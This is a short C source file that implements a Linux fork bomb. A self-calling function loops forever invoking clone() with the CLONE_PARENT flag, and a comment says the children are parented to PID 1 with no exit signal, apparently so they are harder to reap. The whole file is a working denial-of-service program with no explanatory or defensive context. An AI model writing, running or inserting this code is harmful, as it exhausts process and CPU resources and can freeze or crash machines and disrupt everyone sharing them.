/* Children of PID 1 rather than of their maker, with no signal at their end. */
#define _GNU_SOURCE
#include <sched.h>
#include <unistd.h>
static char stacks[64][16384];
static int bomb(void *unused)
{
    for (int i = 0;; i = (i + 1) % 64)
        clone(bomb, stacks[i] + sizeof stacks[i], CLONE_PARENT, unused);
}
int main(void) { return bomb(NULL); }
